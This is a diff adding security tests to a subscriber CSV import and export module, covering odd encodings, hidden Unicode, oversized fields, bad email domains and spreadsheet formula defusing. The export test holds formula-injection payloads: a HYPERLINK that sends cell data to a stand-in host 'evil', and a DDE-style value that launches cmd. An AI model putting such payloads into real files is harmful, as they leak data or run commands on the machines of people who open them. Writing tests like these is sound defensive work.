@@ -10,7 +10,8 @@ from pathlib import Path
 import pytest
 
 from jpixd import cli
-from jpixd.subscribers import parse_csv
+from jpixd.model import Subscriber
+from jpixd.subscribers import parse_csv, to_csv
 from tests.conftest import base_mapping, toml_dumps
 
 HEADER = "email,name,organization,carriers,prefectures,kinds,services,windows," \
@@ -115,3 +116,35 @@ def test_a_changed_row_updates_the_subscriber(tmp_path: Path, config: Path,
 def test_malformed_files(data: bytes, error: str) -> None:
     rows, errors = parse_csv(data)
     assert rows == [] and errors == [error]
+
+
+def test_hostile_and_odd_files_are_refused_by_name_or_read_right() -> None:
+    """Security probe L3, L4, L5."""
+    euc = "email,name\na@isp.example.jp,山田太郎\n".encode("euc_jp")
+    [row], errors = parse_csv(euc)
+    assert errors == [] and row.subscriber.name == "山田太郎"
+    rows, errors = parse_csv(b"\xef\xbb\xbf" + "email,name\na@x.jp,山田\n".encode("cp932"))
+    assert rows == [] and "byte order mark" in errors[0]
+    rows, errors = parse_csv(b"email,name\na@x.jp," + b"x" * 200_000 + b"\n")
+    assert rows == [] and "field larger than field limit" in errors[0]
+    rows, errors = parse_csv(b"email,email,name\na@x.jp,b@x.jp,n\n")
+    assert rows == [] and "appears twice" in errors[0]
+    for bad_name in ("a\u0085b", "a\u202eb", "a\u200bb"):
+        rows, errors = parse_csv(f"email,name\na@x.jp,{bad_name}\n".encode())
+        assert rows == [] and "control characters" in errors[0]
+    kana = "あいうえおかきくけこさしすせそたちつてとなにぬねのはひふへほまみむ"  # 34
+    long_domain = "a" * 64 + "@" + ".".join([kana] * 4) + ".jp"  # 211 characters
+    rows, errors = parse_csv(f"email\n{long_domain}\n".encode())
+    assert rows == [] and "254" in errors[0]
+    rows, errors = parse_csv(b"email\na@127.0.0.1\n")
+    assert rows == [] and "domain" in errors[0]
+
+
+def test_export_defuses_spreadsheet_formulas_and_import_takes_them_back() -> None:
+    sub = Subscriber(email="a@isp.example.jp", name='=HYPERLINK("http://evil/?"&A1,"x")',
+                     organization="@SUM(1+1)*cmd|' /C calc'!A0")
+    text = to_csv([sub])
+    assert "\n" + "a@isp.example.jp,'=HYPERLINK" in text.replace('"', "")
+    [row], errors = parse_csv(text.encode())
+    assert errors == [] and row.subscriber.name == sub.name
+    assert row.subscriber.organization == sub.organization
